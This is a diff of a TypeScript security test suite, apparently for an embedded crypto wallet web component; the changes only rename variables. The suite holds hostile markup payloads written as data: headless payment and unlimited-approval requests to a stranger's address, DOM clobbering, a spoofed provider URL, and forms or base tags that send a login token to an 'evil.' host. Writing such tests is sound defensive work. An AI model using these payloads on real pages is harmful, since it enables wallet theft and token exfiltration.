@@ -2,7 +2,7 @@ import { harm, playAll, showsWhole, textOf, type Attack, type HostilePage } from
 import { STRANGER, type Visitor } from './visitor.js'
 
 const REVIEW = 'wallet-confirm-tx'
-const PAYMENT = `<${REVIEW} open headless sponsored chain="31337" value="1" value-unit="ether" to="${STRANGER.ethereum}"></${REVIEW}>`
+const PAY = `<${REVIEW} open headless sponsored chain="31337" value="1" value-unit="ether" to="${STRANGER.ethereum}"></${REVIEW}>`
 const WITHOUT_SCREENS =
   '<script type="application/json">{ "embeddedWallets": { "showWalletUIs": false }, "sponsored": true, "scanTransactions": false }</script>'
 const ZERO_ADDRESS = '0x0000000000000000000000000000000000000000'
@@ -38,7 +38,7 @@ interface MarkupAttack extends Attack {
 
 /** Requests without a screen. */
 const withoutScreen = (usdc: string): readonly MarkupAttack[] => [
-  { name: 'a payment without a screen', after: PAYMENT, reads: /1 ETH/ },
+  { name: 'a payment without a screen', after: PAY, reads: /1 ETH/ },
   {
     name: 'a payment in SOL without a screen',
     after: `<${REVIEW} open headless chain-type="solana" cluster="devnet" value="1" value-unit="sol" to="${STRANGER.solana}"></${REVIEW}>`,
@@ -50,24 +50,24 @@ const withoutScreen = (usdc: string): readonly MarkupAttack[] => [
     after: `<${REVIEW} open headless chain="31337" to="${usdc}" data="0x095ea7b3${STRANGER.ethereum.slice(2).toLowerCase().padStart(64, '0')}${'f'.repeat(64)}"></${REVIEW}>`,
     reads: /USDC/,
   },
-  { name: 'a signature without a screen', after: PAYMENT.replace('open', 'open sign-only'), reads: /1 ETH/ },
+  { name: 'a signature without a screen', after: PAY.replace('open', 'open sign-only'), reads: /1 ETH/ },
   {
     name: 'a tag that speaks for the page',
     before: '<wallet-app headless sponsored></wallet-app>',
-    after: PAYMENT,
+    after: PAY,
     reads: /1 ETH/,
   },
   {
     name: 'a JSON child that speaks for the page',
     before: `<wallet-app>${WITHOUT_SCREENS}</wallet-app>`,
-    after: PAYMENT,
+    after: PAY,
     reads: /1 ETH/,
   },
-  { name: 'a JSON child of its own', after: within(PAYMENT, WITHOUT_SCREENS), reads: /1 ETH/ },
+  { name: 'a JSON child of its own', after: within(PAY, WITHOUT_SCREENS), reads: /1 ETH/ },
   ...[true, false].map(showWalletUIs => ({
     name: `markup beside a script that says showWalletUIs: ${showWalletUIs}`,
     before: '<wallet-app headless></wallet-app>',
-    after: within(PAYMENT, WITHOUT_SCREENS),
+    after: within(PAY, WITHOUT_SCREENS),
     settings: { embeddedWallets: { showWalletUIs } },
     reads: /1 ETH/,
   })),
@@ -110,24 +110,24 @@ const TERMS: readonly MarkupAttack[] = [
 ]
 
 /** Markup that falsifies the text on a screen, or the server that the page calls. */
-const misleading = ({ appId, world: { apiUrl } }: Visitor, hostileUrl: string): readonly MarkupAttack[] => [
+const misleading = ({ appId, world: { apiUrl } }: Visitor, evil: string): readonly MarkupAttack[] => [
   {
     name: 'names of the document',
     before: CLOBBERED.map(name => `<img name="${name}" alt><form name="${name}"></form><i id="${name}"></i>`).join(''),
-    after: PAYMENT,
+    after: PAY,
     reads: /1 ETH/,
   },
   {
     name: "a login of the page's own, which names nobody",
     before: '<wallet-app><script type="application/json">{ "customAuth": { "enabled": true } }</script></wallet-app>',
-    after: PAYMENT,
+    after: PAY,
     reads: /1 ETH/,
   },
   {
     name: "another provider beside the script's own",
-    before: `<wallet-app app-id="${appId}" api-url="${hostileUrl}"></wallet-app>`,
+    before: `<wallet-app app-id="${appId}" api-url="${evil}"></wallet-app>`,
     settings: { appId, apiUrl },
-    after: PAYMENT,
+    after: PAY,
     reads: /1 ETH/,
   },
   {
@@ -151,9 +151,9 @@ const misleading = ({ appId, world: { apiUrl } }: Visitor, hostileUrl: string): 
 
 /** Markup alone, as in a comment or an advert. Its request is shown, and has no other effect. */
 export const markup: HostilePage = async visitor => {
-  const hostileUrl = visitor.world.apiUrl.replace('//wallet.', '//evil.')
+  const evil = visitor.world.apiUrl.replace('//wallet.', '//evil.')
   const verdict = await playAll(
-    [...withoutScreen(visitor.usdc), ...TERMS, ...misleading(visitor, hostileUrl)],
+    [...withoutScreen(visitor.usdc), ...TERMS, ...misleading(visitor, evil)],
     async ({ tag = REVIEW, screen = 'confirm-ethereum', reads, never, ...hostile }) => {
       const before = await visitor.standing()
       await visitor.visits(hostile)
@@ -172,22 +172,19 @@ export const markup: HostilePage = async visitor => {
   )
   // Foreign forms around a login. A signed-in visitor completes that login at once: as a guest if there is no better
   // method.
-  const login = '<wallet-login-modal open login-methods="guest" name="token" submit-on-complete></wallet-login-modal>'
+  const around = '<wallet-login-modal open login-methods="guest" name="token" submit-on-complete></wallet-login-modal>'
   const forms = await playAll(
     [
-      {
-        name: 'a form of theirs around a login',
-        after: `<form action="${hostileUrl}/take" method="post">${login}</form>`,
-      },
+      { name: 'a form of theirs around a login', after: `<form action="${evil}/take" method="post">${around}</form>` },
       {
         name: 'a form of theirs for a login elsewhere',
-        before: `<form id="theirs" action="${hostileUrl}/take"></form>`,
-        after: login.replace('open', 'open form="theirs"'),
+        before: `<form id="theirs" action="${evil}/take"></form>`,
+        after: around.replace('open', 'open form="theirs"'),
       },
       {
         name: 'a base of theirs under a form of the page',
-        before: `<base href="${hostileUrl}/">`,
-        after: `<form action="take" method="post">${login}</form>`,
+        before: `<base href="${evil}/">`,
+        after: `<form action="take" method="post">${around}</form>`,
       },
     ],
     async hostile => {
@@ -200,21 +197,16 @@ export const markup: HostilePage = async visitor => {
   )
   // If the host names its provider in markup alone, the first tag decides, and its provider receives no token.
   const before = await visitor.standing()
-  await visitor.visits({
-    before: `<wallet-app app-id="${visitor.appId}" api-url="${hostileUrl}"></wallet-app>`,
-    after: PAYMENT,
-  })
+  await visitor.visits({ before: `<wallet-app app-id="${visitor.appId}" api-url="${evil}"></wallet-app>`, after: PAY })
   await visitor.settles()
-  const isAsked = visitor.world.driver
-    .requests(visitor.appId)
-    .some(({ headers }) => headers['host']?.startsWith('evil.'))
+  const asked = visitor.world.driver.requests(visitor.appId).some(({ headers }) => headers['host']?.startsWith('evil.'))
   return {
     tried: verdict.tried + forms.tried + 1,
     broken: [
       ...verdict.broken,
       ...forms.broken,
       ...(await harm(visitor, before)).map(violation => `another provider first: ${violation}`),
-      ...(isAsked ? [] : ['another provider first: it was never asked, so that nothing is shown']),
+      ...(asked ? [] : ['another provider first: it was never asked, so that nothing is shown']),
     ],
   }
 }
